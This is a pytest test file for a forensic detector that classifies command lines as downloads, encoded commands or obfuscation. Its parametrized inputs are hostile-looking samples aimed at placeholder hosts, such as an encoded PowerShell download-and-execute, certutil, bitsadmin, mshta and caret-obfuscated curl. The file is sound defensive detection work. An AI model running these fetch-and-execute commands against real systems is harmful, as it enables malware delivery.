import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bartizan.forensics.documents.commands import judge_command
from bartizan.forensics.documents.drafting import Draft

CODED = base64.b64encode(
    "iwr https://e.test/a.ps1 | iex; start-sleep 5".encode("utf-16-le")
).decode()


def judged(text: str, **options):
    draft = Draft()
    judge_command(text, draft, **options)
    return draft.reading()


def shown(text: str, **options) -> set[str]:
    return {sign.trait.value for sign in judged(text, **options).signs}


@pytest.mark.parametrize(
    "text",
    [
        "(New-Object Net.WebClient).DownloadString('https://a.test/x')",
        "certutil.exe -f -urlcache https://a.test/x x.exe",
        "bitsadmin /rawreturn /transfer j https://a.test/x c:\\x",
        "curl.exe -o a https://a.test/x",
        "mshta https://a.test/x",
        "c^u^r^l -o a https://a.test/x",
        "'Down' + 'loadFile'",
        "net use \\\\a.test@80\\dav",
    ],
)
def test_downloads(text):
    assert "download" in shown(text)


@pytest.mark.parametrize(
    "text",
    [f"powershell -enc {CODED}", f"PowerShell.exe  -e {CODED}", f"pwsh /EncodedCommand {CODED}"],
)
def test_encoded_commands_are_decoded(text):
    assert shown(text) == {"command", "download", "obfuscated"}
    assert judged(text).urls == ("https://e.test/a.ps1",)


@pytest.mark.parametrize(
    "text",
    ["-w hidden", "eval(String.fromCharCode(1))", "%a:~1,1%%b:~2,1%%c:~3,1%", "p^o^w^e^r^s^h"],
)
def test_masks(text):
    assert "obfuscated" in shown(text)


def test_plain_words_are_nothing():
    assert shown("Please restart the shell and download the report from the portal.") == set()


def test_talk_about_commands_can_be_let_pass():
    assert shown("open cmd.exe /c dir", weigh_execution=False) == set()


@pytest.mark.parametrize("unit", ["certutil ", "curl ", "-e AAAA", "%a:~1,", "bitsadmin", "\\\\a"])
def test_hostile_repeats_are_linear(unit):
    started = time.process_time()
    judged(unit * 200_000)
    assert time.process_time() - started < 5


@given(st.text(max_size=300))
def test_any_text_can_be_judged(text):
    judged(text)
